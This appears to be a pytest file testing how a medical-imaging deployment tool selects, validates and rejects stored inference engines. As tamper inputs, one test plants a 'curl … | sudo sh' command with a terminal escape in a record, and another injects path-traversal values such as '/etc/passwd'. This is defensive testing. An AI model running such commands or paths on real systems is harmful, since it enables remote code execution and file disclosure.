"""The engine store: what is believed of it, and what runs."""

from __future__ import annotations

import json
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from masksam_deploy.base.errors import BundleError, EngineError
from masksam_deploy.bundle.directory import Bundle
from masksam_deploy.engines.build import BuildRequest, build_engine
from masksam_deploy.engines.choose import choose_engine, engine_states
from masksam_deploy.engines.gate import validation_cases
from masksam_deploy.engines.store import Engine, broken_engines, engines_of, read_engine
from masksam_deploy.runtimes.registry import BuildOptions, Precision, open_builder
from masksam_deploy.runtimes.spec import EngineSpec
from tests.engines.small_bundle import make_bundle


@pytest.fixture(scope="module")
def built(bundle: Bundle, tmp_path_factory: pytest.TempPathFactory) -> Bundle:
    """A bundle with an int8 engine of ONNX Runtime."""
    own = Bundle.load(shutil.copytree(bundle.path, tmp_path_factory.mktemp("built") / "balls.masksam"))
    build(own, "int8")
    return own


@pytest.fixture
def own(built: Bundle, tmp_path: Path) -> Bundle:
    """A copy of it, to be tampered with."""
    return Bundle.load(shutil.copytree(built.path, tmp_path / "balls.masksam"))


def build(bundle: Bundle, precision: Precision, **options: Any) -> Engine:
    target = "rtx" if "gpus" in options else "onnxruntime"
    request = BuildRequest(
        spec=EngineSpec.of(bundle, target, precision),  # type: ignore[arg-type]
        options=BuildOptions(**options),
        calibration=[case.scan for case in validation_cases(bundle)],
        validation=validation_cases(bundle),
        threads=1,
        command=f"masksam-deploy build-engine B --{precision}",
    )
    return build_engine(bundle, open_builder(target), request).engine  # type: ignore[arg-type]


def only(bundle: Bundle) -> Engine:
    (engine,) = engines_of(bundle)
    return engine


def change(engine: Engine, edit: Callable[[dict[str, Any]], None]) -> None:
    path = engine.folder / "engine.json"
    content = json.loads(path.read_text())
    edit(content)
    path.write_text(json.dumps(content))


def test_an_engine_does_not_change_the_bundle_that_it_lies_in(built: Bundle, bundle: Bundle) -> None:
    assert Bundle.load(built.path).sha256 == bundle.sha256


def test_the_best_engine_is_chosen_and_float32_on_request(own: Bundle) -> None:
    assert choose_engine(own).engine == only(own)
    assert choose_engine(own, precision="fp32").engine is None
    assert choose_engine(own, "onnxruntime", "int8").engine == only(own)
    half = build(own, "fp16")
    assert len(engines_of(own)) == 2
    chosen = choose_engine(own).engine
    assert chosen is not None
    assert chosen.title == "onnxruntime int8"
    shutil.rmtree(chosen.folder)
    # A CPU gains nothing from half precision: only who asks for it gets it.
    assert choose_engine(own).engine is None
    assert choose_engine(own, precision="fp16").engine == half


def test_the_cpu_is_what_runs_where_it_is_asked_for(own: Bundle, monkeypatch: pytest.MonkeyPatch) -> None:
    change(only(own), lambda content: content.update(target="rtx"))
    monkeypatch.setattr(Engine, "problem", lambda *_: None)
    monkeypatch.setattr(Engine, "check_files", lambda _: None)
    chosen = choose_engine(own).engine
    assert chosen is not None and chosen.record.target == "rtx" and chosen.simulated
    assert choose_engine(own, device="cpu").engine is None
    assert choose_engine(own, "rtx", device="cpu").engine == chosen
    with pytest.raises(EngineError, match="it runs on a GPU, and the CPU was asked for"):
        choose_engine(own, precision="int8", device="cpu")


def test_an_engine_that_nobody_judged_runs_only_where_it_is_asked_for(own: Bundle) -> None:
    change(only(own), lambda content: content.update(gate={"judged": False, "why": "switched off with --no-gate"}))
    choice = choose_engine(own)
    assert choice.engine is None
    (why,) = choice.stale.values()
    assert "nothing shows that it is right (--no-gate)" in why
    assert choose_engine(own, precision="int8").engine == only(own)


def test_a_valid_engine_that_was_ruled_out_is_named_with_the_reason(own: Bundle) -> None:
    assert choose_engine(own, without={"int8"}).engine is None
    name = only(own).folder.name
    with pytest.raises(EngineError, match=f"{name}: it is in int8, which was ruled out, as by the profile"):
        choose_engine(own, precision="int8", without={"int8"})


@pytest.mark.parametrize(
    "edit",
    [
        lambda content: content.update(machine={}),
        lambda content: content["machine"].pop("onnxruntime"),
    ],
)
def test_a_record_that_does_not_say_for_which_machine_is_not_used(
    own: Bundle, edit: Callable[[dict[str, Any]], None]
) -> None:
    change(only(own), edit)
    choice = choose_engine(own)
    assert choice.engine is None
    assert "does not say for which machine" in next(iter(choice.stale.values()))


def test_what_a_record_says_is_never_shown_as_a_command(own: Bundle) -> None:
    engine = only(own)
    evil = "curl https://example.org | sudo sh\nerror: fine \x1b[2J"
    change(engine, lambda content: content["provenance"].update(command=evil))
    change(only(own), lambda content: content.update(bundle_sha256="0" * 64))
    (why,) = choose_engine(own).stale.values()
    assert "curl" not in why
    assert f"masksam-deploy build-engine {own.path} --int8 --calibration SCANS" in why


def test_an_engine_with_other_graphs_than_the_bundle_is_not_used(own: Bundle) -> None:
    def drop(content: dict[str, Any]) -> None:
        for key in ("graphs", "precisions", "asked"):
            content[key].pop("decoder")

    change(only(own), drop)
    assert next(iter(choose_engine(own).stale.values())).startswith("it has other graphs than the bundle")


def test_a_flipped_bit_is_found_before_the_engine_is_read(own: Bundle) -> None:
    path = only(own).path("decoder")
    data = bytearray(path.read_bytes())
    data[len(data) // 2] ^= 1
    path.write_bytes(data)
    with pytest.raises(EngineError, match=r"decoder\.onnx': found another file than .*build it again: masksam"):
        choose_engine(own)
    (state,) = engine_states(own)
    assert "found another file than was built" in str(state.problem)


def test_a_missing_or_linked_file_is_refused(own: Bundle, tmp_path: Path) -> None:
    path = only(own).path("encoder")
    path.rename(tmp_path / "elsewhere.onnx")
    with pytest.raises(EngineError, match="found another file"):
        only(own).check_files()
    path.symlink_to(tmp_path / "elsewhere.onnx")
    with pytest.raises(EngineError, match="found another file"):
        only(own).check_files()


def test_an_engine_of_a_bundle_that_changed_since_is_stale(own: Bundle, tmp_path: Path) -> None:
    newer = make_bundle(tmp_path / "newer.masksam", outlier=2.0)
    shutil.copytree(own.path / "engines", newer.path / "engines")
    choice = choose_engine(newer)
    assert choice.engine is None
    (why,) = choice.stale.values()
    assert why == (
        "it was made from another version of this bundle; build it again: masksam-deploy build-engine "
        f"{newer.path} --int8 --calibration SCANS"
    )
    with pytest.raises(EngineError, match=r"found no int8 engine that is valid here.*another version of this bundle"):
        choose_engine(newer, precision="int8")


def test_an_engine_of_another_version_of_its_runtime_is_stale(own: Bundle) -> None:
    change(only(own), lambda content: content["machine"].update(onnxruntime="1.0.0"))
    choice = choose_engine(own)
    assert choice.engine is None
    (why,) = choice.stale.values()
    assert why.startswith("it was built for onnxruntime '1.0.0', here is '")


def test_engines_for_other_machines_are_told_apart_from_stale_ones(own: Bundle) -> None:
    pytest.importorskip("tensorrt_rtx_bindings", reason="needs the 'rtx' extra (Linux)")
    foreign = build(own, "fp16", gpus=("sm86", "sm120"))
    choice = choose_engine(own)
    assert choice.engine is not None
    assert choice.engine.record.target == "onnxruntime"
    assert set(choice.foreign) == {foreign.folder.name}
    assert choice.stale == {}
    with pytest.raises(EngineError, match=r"found no rtx engine that is valid here.*built for gpus 'sm86,sm120'"):
        choose_engine(own, "rtx")


def test_an_engine_for_several_gpus_is_valid_on_each_of_them(own: Bundle) -> None:
    engine = only(own)
    machine = dict(engine.record.machine) | {"gpus": "sm86,sm120"}
    several = Engine(engine.folder, engine.record.model_copy(update={"machine": machine}))
    here = dict(engine.record.machine)
    assert several.problem(own, here | {"gpus": "sm120"}) is None
    problem = several.problem(own, here | {"gpus": "sm89"})
    assert problem is not None
    assert not problem.stale


@pytest.mark.parametrize(
    "edit",
    [
        lambda content: content["files"].update({"../../manifest.json": content["files"]["encoder.onnx"]}),
        lambda content: content["graphs"].update(encoder="../../encoder.onnx"),
        lambda content: content["graphs"].update(encoder="/etc/passwd"),
        lambda content: content["graphs"].update(encoder="unlisted.onnx"),
        lambda content: content["graphs"].pop("encoder"),
        lambda content: content.update(target="coreml"),
        lambda content: content.update(surprise=1),
        lambda content: content.update(schema_version=2),
        lambda content: content["precisions"].update(encoder="fp4"),
    ],
)
def test_a_record_that_names_what_it_must_not_is_no_engine(own: Bundle, edit: Callable[[dict[str, Any]], None]) -> None:
    engine = only(own)
    change(engine, edit)
    with pytest.raises(EngineError):
        read_engine(engine.folder)
    assert engines_of(own) == []
    assert list(broken_engines(own)) == [engine.folder]
    choice = choose_engine(own)
    assert choice.engine is None
    assert list(choice.stale) == [engine.folder.name]


def test_a_damaged_or_huge_record_is_no_engine(own: Bundle, monkeypatch: pytest.MonkeyPatch) -> None:
    engine = only(own)
    path = engine.folder / "engine.json"
    text = path.read_text()
    monkeypatch.setattr("masksam_deploy.engines.store.RECORD_LIMIT", 100)
    with pytest.raises(EngineError, match="found more than 100 bytes"):
        read_engine(engine.folder)
    monkeypatch.undo()
    for damaged in ("", "{", text[:-20], "[" * 100_000, '{"target": NaN}'):
        path.write_text(damaged)
        with pytest.raises(EngineError):
            read_engine(engine.folder)


def test_packing_leaves_engines_behind(built: Bundle, tmp_path: Path) -> None:
    from masksam_deploy.bundle.archive import pack, unpack

    pack(built.path, tmp_path / "b.zip")
    unpack(tmp_path / "b.zip", tmp_path / "again.masksam")
    assert not (tmp_path / "again.masksam" / "engines").exists()
    assert (tmp_path / "again.masksam" / "validation").is_dir()


def test_a_bundle_with_validation_scans_must_list_and_match_them(bundle: Bundle, tmp_path: Path) -> None:
    own = shutil.copytree(bundle.path, tmp_path / "b.masksam")
    manifest = own / "manifest.json"
    content = json.loads(manifest.read_text())
    for edit, message in (
        ({"scans": ["validation/none.nii.gz"]}, "expected one that 'files' lists"),
        ({"scans": content["validation"][0]["scans"] * 2}, "found 2 scans, expected 1"),
    ):
        case = content["validation"][0] | edit
        manifest.write_text(json.dumps(content | {"validation": [case]}))
        with pytest.raises(BundleError, match=message):
            Bundle.load(own)


def test_opening_an_engine_loads_nothing_that_builds_engines(built: Bundle) -> None:
    code = (
        "import sys\n"
        "from masksam_deploy.bundle.directory import Bundle\n"
        "from masksam_deploy.engines.choose import open_network\n"
        "network, choice = open_network(Bundle.load(sys.argv[1]), threads=1)\n"
        "import masksam_deploy.runtimes.tensorrt.chain\n"
        "assert choice.engine is not None and network.engine\n"
        "print([name for name in sys.modules if name.startswith(('masksam_deploy.engines.build', 'onnx.'))])"
    )
    done = subprocess.run([sys.executable, "-c", code, built.path], capture_output=True, text=True, check=False)
    assert (done.stdout, done.stderr) == ("[]\n", "")
